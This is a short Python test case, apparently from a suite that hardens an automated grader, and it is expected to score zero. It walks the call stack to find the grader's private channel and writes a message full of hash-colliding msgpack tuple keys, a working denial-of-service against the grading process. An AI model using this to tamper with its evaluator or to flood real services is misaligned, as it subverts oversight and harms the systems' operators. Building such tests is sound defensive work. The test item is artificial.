# class: 56 and 41, the time of the grader's own process
# tries: send a map whose keys all have one hash
# must get: 0 points
# control: custom: colliding_tuples
import itertools
import os
import struct
import sys

import msgspec


def wire():
    """Find the object by which this process answers the grader, and the number of the question."""
    frame = sys._getframe()
    while frame := frame.f_back:
        if "frame" in frame.f_locals and hasattr(frame.f_locals.get("self"), "channel"):
            return frame.f_locals["self"].channel, frame.f_locals["frame"][1]
    return None, 0


def body(number, bits=16):
    """-1 and -2 have one hash, and so have all tuples of them."""
    keys = (
        b"".join(bytes([0x90 + bits, *choice]) + b"\xc0" for choice in itertools.product((0xFF, 0xFE), repeat=bits))
        if bits < 16
        else b"".join(
            b"\xdc" + struct.pack(">H", bits) + bytes(choice) + b"\xc0"
            for choice in itertools.product((0xFF, 0xFE), repeat=bits)
        )
    )
    return (
        b"\x95\x01" + msgspec.msgpack.encode(number) + b"\x92\xdf" + struct.pack(">I", 2**bits) + keys + b"\x90\x90\x90"
    )


def keys(numbers):
    channel, number = wire()
    data = body(number)
    data = struct.pack("<IB3x", len(data), 0) + data
    os.set_blocking(channel.fileno(), True)
    while data:
        data = data[os.write(channel.fileno(), data) :]
